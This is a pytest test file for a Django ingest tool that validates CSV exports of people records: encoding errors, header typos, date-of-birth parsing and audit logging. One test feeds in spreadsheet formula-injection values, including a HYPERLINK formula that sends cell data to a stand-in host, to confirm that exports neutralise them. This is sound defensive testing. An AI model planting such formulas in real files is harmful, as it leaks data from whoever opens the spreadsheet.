"""Bad input, clear errors, nothing lost (issue 8 item 12; issue 10 item 5)."""

import csv
import datetime as dt
import json

import pytest
from django.core.management import CommandError, call_command

from haven.access.models import AccessLogEntry
from haven.intake.models import Involvement
from haven.people.ingest import ingest_export
from haven.people.models import SourceRecord

HEADER = b"source_id,forename,surname,date_of_birth,postcode\r\n"


def write(directory, name, data: bytes):
    directory.mkdir(parents=True, exist_ok=True)
    (directory / name).write_bytes(data)
    return directory


def rejects(directory, name):
    with (directory / "rejects" / name).open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def summary(directory):
    return json.loads((directory / "rejects" / "summary.json").read_text())


def stored_ids():
    return sorted(SourceRecord.objects.values_list("source_id", flat=True))


@pytest.mark.parametrize(("bad_line", "reason"), [
    (b"B,Ren\xe9e,Latin,1980-01-01,\r\n", "line 3 is not UTF-8 text (byte 0xe9"),
    (b"B,Nul\x00l,Byte,1980-01-01,\r\n", "line 3 contains a NUL byte"),
    (b"B,Big," + b"x" * 10_000_000 + b",1980-01-01,\r\n", "surname is longer than 100,000"),
])
def test_a_bad_byte_or_a_huge_cell_rejects_that_row_and_keeps_every_good_one(
        forces, tmp_path, bad_line, reason):
    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1980-01-01,\r\n"
                   + bad_line + b"C,Cat,Good,1981-02-02,\r\n")
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    assert stored_ids() == ["A", "C"]
    [reject] = rejects(export, "people.csv")
    assert reject["line"] == "3" and reject["reason"].startswith(reason)
    assert report.total("rejected") == 1 and summary(export)["totals"]["stored"] == 2
    assert AccessLogEntry.objects.filter(record_type="ingest").count() == 1


def test_cells_beyond_the_header_are_rejected_not_dropped(forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1980-01-01,,extra\r\n"
                   + b"C,Cat,Good,1981-02-02,\r\n" + b"D,Dan,Good,1982-03-03,,, \r\n")
    ingest_export(forces["WARKS"], "pvp", export, progress=False)
    assert stored_ids() == ["C", "D"]  # blank trailing cells lose nothing
    [reject] = rejects(export, "people.csv")
    assert reject["reason"] == "6 cells but the header has 5 columns: cells beyond the header"


@pytest.mark.parametrize(("header", "message"), [
    (b"id,forename,surname\r\n", "people.csv line 1: required column 'source_id' is missing"),
    (b"source_id,forename,surnme,date_of_birth\r\n",
     "people.csv line 1: column 'surnme' is not in the export contract: did you mean "
     "'surname'?"),
    (b"source_id,forename,surname,date_of_brith\r\n", "did you mean 'date_of_birth'?"),
    (b"source_id,fore\xe9name\r\n", "people.csv line 1: header line 1 is not UTF-8 text"),
    (b"", "people.csv line 1: the file is empty: no header row"),
])
def test_a_missing_or_misspelt_column_is_one_file_level_error_naming_file_and_column(
        forces, tmp_path, header, message):
    body = b"A,Ann,Good,1980-01-01\r\n" if header else b""
    export = write(tmp_path / "pvp", "people.csv", header + body)
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    assert SourceRecord.objects.count() == 0
    [problem] = report.problems
    assert message in problem
    assert summary(export)["problems"] == [problem]
    assert message in (export / "rejects" / "summary.txt").read_text()
    assert AccessLogEntry.objects.get(record_type="ingest").detail["problems"] == 1


def test_a_header_differing_only_in_case_or_spacing_is_read_as_the_contracts_column(
        forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv",
                   b"Source_ID,Forename,SURNAME,Date Of Birth,Town\r\n"
                   b"A,Ann,Good,1980-01-02,Rugby\r\n")
    write(export, "incidents.csv", b"Source ID,Occurred_At,Category\r\n"
          b"I1,2026-01-01T10:00:00,domestic\r\n")
    write(export, "involvements.csv", b"incident-source-id,Person Source ID,Role\r\n"
          b"I1,A,victim\r\n")
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    assert report.problems == [] and report.total("rejected") == 0
    record = SourceRecord.objects.get(source_id="A")
    assert (record.forename, record.surname, record.date_of_birth, record.town) == (
        "Ann", "Good", dt.date(1980, 1, 2), "Rugby")
    assert Involvement.objects.filter(person=record.person, role="victim").count() == 1


def test_the_command_says_what_is_wrong_in_one_message_and_fails(forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv", b"id,forename\r\nA,Ann\r\n")
    with pytest.raises(CommandError, match="people.csv line 1: required column 'source_id'"):
        call_command("ingest", str(export), force_code="WARKS", source="pvp", no_progress=True,
                     stdout=open("/dev/null", "w"))  # noqa: SIM115


def test_a_run_that_fails_part_way_still_writes_a_summary_and_a_log_entry(forces, tmp_path,
                                                                          monkeypatch):
    from haven.people.ingest import store

    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1980-01-01,\r\n")
    write(export, "incidents.csv", b"source_id,occurred_at\r\nI1,2026-01-01T10:00:00\r\n")

    def broken(ctx, batch):
        raise RuntimeError("disk full")

    monkeypatch.setattr("haven.people.ingest.run.FILE_ORDER", [
        ("people.csv", "people", store_validate("person_row"), store.store_people),
        ("incidents.csv", "incidents", store_validate("incident_row"), broken)])
    with pytest.raises(RuntimeError):
        ingest_export(forces["WARKS"], "pvp", export, progress=False)
    assert stored_ids() == ["A"]
    assert "ingest stopped: RuntimeError: disk full" in summary(export)["problems"][0]
    entry = AccessLogEntry.objects.get(record_type="ingest")
    assert entry.detail["failed"] == "RuntimeError" and entry.detail["stored"] == 1


def store_validate(name):
    from haven.intake import ingest as intake_ingest
    from haven.people.ingest import validate

    # people's validators are in people.ingest.validate, intake's in intake/ingest.py
    return getattr(validate, name, None) or getattr(intake_ingest, name)


@pytest.mark.parametrize(("given", "problem"), [
    ("2999-01-01", "in the future"),
    ("1900-01-01", "a placeholder, not a date of birth"),
    ("1990-02-31", "not a real date (no such day)"),
    ("31/02/1990", "not a real date (no such day)"),
    ("last May", "not a date as YYYY-MM-DD"),
    ("1985-06-14T10:30:00", "a date and time, not a date of birth"),
    ("0000-00-00", "a placeholder, not a date of birth"),
    ("1850-06-01", "before 1900-01-01"),
])
def test_an_impossible_date_of_birth_keeps_the_person_and_their_involvements(
        forces, tmp_path, given, problem):
    export = write(tmp_path / "pvp", "people.csv",
                   HEADER + f"A,Ann,Good,{given},\r\n".encode())
    write(export, "incidents.csv", b"source_id,occurred_at,category\r\n"
          b"I1,2026-01-01T10:00:00,domestic\r\n")
    write(export, "involvements.csv", b"incident_source_id,person_source_id,role\r\n"
          b"I1,A,victim\r\n")
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    record = SourceRecord.objects.get(source_id="A")
    assert record.date_of_birth is None and record.person.date_of_birth is None
    assert record.data_quality == [{"field": "date_of_birth", "given": given, "problem": problem}]
    assert Involvement.objects.filter(person=record.person, role="victim").count() == 1
    assert report.total("rejected") == 0 and report.total("noted") == 1
    assert "value set aside" in report.text()
    [note] = rejects(export, "data_quality.csv")
    assert (note["file"], note["line"], note["column"], note["problem"]) == (
        "people.csv", "2", "date_of_birth", problem)


def test_a_date_of_birth_typed_day_first_is_read_with_day_and_month_swapped(forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1985-13-02,\r\n"
                   + b"B,Bea,Good,1985-13-13,\r\n")
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    record = SourceRecord.objects.get(source_id="A")
    assert record.date_of_birth == dt.date(1985, 2, 13)
    assert record.data_quality == [{"field": "date_of_birth", "given": "1985-13-02",
                                    "problem": "day and month swapped: read as 1985-02-13"}]
    # no reading makes 13/13 a date: left blank, as any impossible date
    assert SourceRecord.objects.get(source_id="B").date_of_birth is None
    assert report.total("noted") == 2 and "day and month swapped" in report.text()


@pytest.mark.parametrize(("given", "read", "note"), [
    # shapes other systems write: read as the one date they can mean, without a note
    ("14/06/1985", dt.date(1985, 6, 14), ""),
    ("14.06.1985", dt.date(1985, 6, 14), ""),
    ("1985-06-14T00:00:00", dt.date(1985, 6, 14), ""),
    ("1985-06-14 00:00:00.000", dt.date(1985, 6, 14), ""),
    ("1985-06-13T23:00:00Z", dt.date(1985, 6, 14), ""),  # midnight in summer time, in UTC
    # ...or with a note saying how it was read
    ("06/14/1985", dt.date(1985, 6, 14), "day and month swapped: read as 1985-06-14"),
    ("1985", dt.date(1985, 1, 1), "year only: read as 1985-01-01"),
    ("1985-00-00", dt.date(1985, 1, 1), "year only: read as 1985-01-01"),
    ("00/06/1985", dt.date(1985, 1, 1), "year only: read as 1985-01-01"),
    # a two-digit year: the later century not in the future
    ("14/06/85", dt.date(1985, 6, 14), "two-digit year, read as 1985-06-14"),
    ("3.2.15", dt.date(2015, 2, 3), "two-digit year, read as 2015-02-03"),
    ("06/14/85", dt.date(1985, 6, 14),
     "two-digit year, day and month swapped, read as 1985-06-14"),
])
def test_a_date_of_birth_in_another_shape_is_read_not_lost(forces, tmp_path, given, read,
                                                           note):
    export = write(tmp_path / "pvp", "people.csv", HEADER + f"A,Ann,Good,{given},\r\n".encode())
    report = ingest_export(forces["WARKS"], "pvp", export, progress=False)
    record = SourceRecord.objects.get(source_id="A")
    assert record.date_of_birth == read and record.person.date_of_birth == read
    assert record.data_quality == ([{"field": "date_of_birth", "given": given,
                                     "problem": note}] if note else [])
    assert report.total("noted") == (1 if note else 0)


def test_a_real_date_of_birth_is_kept_as_given(forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1900-01-02,\r\n")
    ingest_export(forces["WARKS"], "pvp", export, progress=False)
    record = SourceRecord.objects.get(source_id="A")
    assert record.date_of_birth == dt.date(1900, 1, 2) and record.data_quality == []


def test_reject_files_and_the_linkage_export_never_write_a_formula(forces, tmp_path):
    export = write(tmp_path / "pvp", "people.csv", HEADER
                   + b'=HYPERLINK("http://x.example/?"&B2),Ann,Good,1980-01-01,\r\n'
                   + b"@SUM(1),,,1990-13-45x,\r\n"
                   + b'"=1+1",Cat,Good,1980-01-01,,+extra\r\n')
    ingest_export(forces["WARKS"], "pvp", export, progress=False)
    cells = [cell for row in csv.reader((export / "rejects" / "people.csv").open())
             for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'=1+1" in cells
    out = tmp_path / "links.csv"
    call_command("linkage", "export", out=str(out), stdout=open("/dev/null", "w"))  # noqa: SIM115
    exported = list(csv.reader(out.open()))
    assert exported[1][:2] == ["pvp", "'=HYPERLINK(\"http://x.example/?\"&B2)"]


def test_ingest_and_export_log_entries_name_who_ran_them(forces, tmp_path, persona):
    export = write(tmp_path / "pvp", "people.csv", HEADER + b"A,Ann,Good,1980-01-01,\r\n")
    admin = persona("system_admin")
    call_command("ingest", str(export), force_code="WARKS", source="pvp", no_progress=True,
                 username=admin.username, stdout=open("/dev/null", "w"))  # noqa: SIM115
    entry = AccessLogEntry.objects.get(record_type="ingest")
    assert (entry.username, entry.detail["run_by"]) == (admin.username, admin.username)
    call_command("linkage", "export", out=str(tmp_path / "l.csv"),
                 stdout=open("/dev/null", "w"))  # noqa: SIM115
    entry = AccessLogEntry.objects.get(record_type="linkage_export")
    assert entry.detail["run_by"].startswith("os:") and "run by os:" in entry.reason
    # Someone without the right cannot run it under their name; the attempt is logged.
    officer = persona("snt_officer")
    with pytest.raises(CommandError, match="--user"):
        call_command("linkage", "export", out=str(tmp_path / "l.csv"),
                     username=officer.username)
    assert AccessLogEntry.objects.filter(record_type="linkage_export", outcome="refused",
                                         username=officer.username).exists()


@pytest.mark.parametrize(("given", "shown", "not_shown"), [
    ("1900-01-01", "1900-01-01 set aside: a placeholder, not a date of birth", "Given as"),
    ("1985", "Given as 1985: year only: read as 1985-01-01", "set aside"),
])
def test_the_person_page_shows_what_was_set_aside_or_how_it_was_read(
        forces, tmp_path, client_as, given, shown, not_shown):
    export = write(tmp_path / "pvp", "people.csv", HEADER + f"A,Ann,Good,{given},\r\n".encode())
    ingest_export(forces["WARKS"], "pvp", export, progress=False)
    person = SourceRecord.objects.get(source_id="A").person
    html = client_as("hau").get(f"/people/{person.pk}/").content.decode()
    assert shown in html and not_shown not in html


def test_a_date_of_birth_typed_in_the_future_is_refused_in_words(forces, add_record):
    from haven.people.services import InvalidRecord

    with pytest.raises(InvalidRecord, match="Date of birth cannot be in the future"):
        add_record("haven", "H1", forename="Ann", date_of_birth="2999-01-01")
